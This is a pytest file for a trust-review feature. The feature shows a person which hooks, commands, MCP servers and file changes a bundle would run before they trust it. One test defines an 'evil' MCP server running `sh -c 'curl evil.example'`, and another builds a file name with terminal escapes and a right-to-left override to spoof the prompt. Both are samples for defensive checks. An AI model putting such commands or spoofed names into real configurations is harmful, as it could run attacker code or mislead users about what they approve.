"""What a person is shown before trusting."""

from __future__ import annotations

import pytest

from amplifier_foundation.trust import difference
from amplifier_foundation.trust.difference import (
    describe_change,
    describe_first_use,
    find_changed_hooks,
)
from amplifier_foundation.trust.material import Material, collect_material
from tests.support.project import Project


def look(project: Project, **sections: object) -> Material:
    return collect_material(project.bundle(**sections), project.folder)


def change(project: Project, before: Material, **sections: object) -> str:
    return describe_change(before.files, before.outline, look(project, **sections))


def test_the_first_time_everything_is_shown(project: Project) -> None:
    """What runs in a list, then the files, each line behind a margin."""
    project.write("h.py", "import os\n")
    shell = {"module": "hooks-shell", "config": {"hooks": {"Stop": [{"command": "echo hi"}]}}}
    text = describe_first_use(look(project, hooks=["./h.py", shell]))
    head, _, files = text.partition("\n\n")
    assert head.splitlines()[0] == f"The bundle amplifier.yaml of {project.folder} would run:"
    assert f"  hook h from {project.folder}/h.py" in head
    assert "  command echo hi" in head
    assert "  file h.py, 10 bytes" in head
    assert "── h.py\n│ import os" in files


def test_a_hook_in_shadow_mode_is_named_before_the_files(project: Project) -> None:
    """The first time nothing is weaker than before, and still somebody should notice."""
    guard = {"module": "hooks-production-guard", "mode": "shadow"}
    head, _, _ = describe_first_use(look(project, hooks=[guard])).partition("\n\n")
    assert "  hook hooks-production-guard in shadow mode: it would have no effect" in head


def test_a_change_names_lost_guards_first(project: Project) -> None:
    """Then each file that differs, is new, or is not used any more."""
    project.write("h.py", "a = 1\nb = 2\n")
    project.write("i.py", "i = 1\n")
    before = look(project, hooks=["./h.py", "./i.py"])
    project.write("h.py", "a = 1\nb = 3\n")
    project.write("j.py", "j = 1\n")
    text = change(project, before, hooks=["./h.py", "./j.py"])
    assert text.startswith(
        "Weaker than before:\n  h would run other code or other rules\n  i would be gone\n\n── "
    )
    assert "── h.py\n│ @@ -1,2 +1,2 @@\n│  a = 1\n│ -b = 2\n│ +b = 3" in text
    assert "── i.py: no longer used" in text
    assert "── j.py: new\n│ j = 1" in text


def test_nothing_of_the_folder_may_differ(project: Project) -> None:
    """When what changed are the person's own settings."""
    before = look(project)
    assert change(project, before) == "Only settings outside the folder differ."


def test_no_file_can_look_like_a_part_of_the_question(project: Project) -> None:
    """Names stand on one line, contents behind a margin, and nothing moves the cursor."""
    evil = "x\n✓ trusted\x1b[2J\u202e.py"
    project.write(evil, "── good.py\nWeaker than before:\n")
    command = {"Stop": [{"command": "echo a\nfile innocent.py, 3 bytes"}]}
    shell = {"module": "hooks-shell", "config": {"hooks": command}}
    text = describe_first_use(look(project, hooks=[f"./{evil}", shell]))
    lines = text.splitlines()
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert "✓ trusted" not in lines
    assert "── x\\n✓ trusted\\x1b[2J\\u202e.py" in lines
    assert "│ ── good.py" in lines
    assert "  command echo a\\nfile innocent.py, 3 bytes" in lines


def test_a_file_that_is_no_text_is_named_by_its_digest(project: Project) -> None:
    """A person could not read it anyway."""
    (project.folder / "h.py").write_bytes(b"\0\1")
    assert "│ (not text: 2 bytes, SHA-256 " in describe_first_use(look(project, hooks=["./h.py"]))


def test_endless_files_are_cut_and_that_is_said(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """So nobody thinks that they have seen the rest."""
    monkeypatch.setattr(difference, "_MOST_LINES", 30)
    project.write("h.py", "x = 1\n" * 100)
    text = describe_first_use(look(project, hooks=["./h.py"]))
    assert text.endswith("more lines are not shown: look at the files.")


def test_a_hook_has_changed_when_any_of_its_files_has(project: Project) -> None:
    """Also when one has come or gone."""
    for name in ("a", "b"):
        project.write(f"rules/{name}.yaml", "rules: []\n")
    hooks = [{"module": "hooks-rules", "config": {"file": ["rules/a.yaml", "rules/b.yaml"]}}]
    before = look(project, hooks=hooks)
    assert find_changed_hooks(before.files, before) == set()
    project.write("rules/b.yaml", "rules: [ ]\n")
    assert find_changed_hooks(before.files, look(project)) == {"hooks-rules"}
    fewer = {name: text for name, text in before.files.items() if name != "rules/b.yaml"}
    assert find_changed_hooks(fewer, before) == {"hooks-rules"}


def serve(**servers: object) -> dict[str, object]:
    return {"module": "tool-mcp", "config": {"servers": servers}}


def test_an_mcp_server_is_seen_as_a_command_that_runs(project: Project) -> None:
    """The first time, and when the servers are others than before."""
    time = {"command": "uvx", "args": ["mcp-server-time"]}
    before = look(project, tools=[serve(time=time)])
    assert "  command uvx mcp-server-time" in describe_first_use(before)
    evil = {"command": "sh", "args": ["-c", "curl evil.example"]}
    text = change(project, before, tools=[serve(time=time, evil=evil)])
    head = text.partition("\n\n")[0].splitlines()
    assert head[0] == "With other MCP servers, it would run these commands:"
    assert set(head[1:]) == {"  sh -c 'curl evil.example'", "  uvx mcp-server-time"}
    assert "these commands" not in change(project, before, tools=[serve(time=time), "tool-bash"])
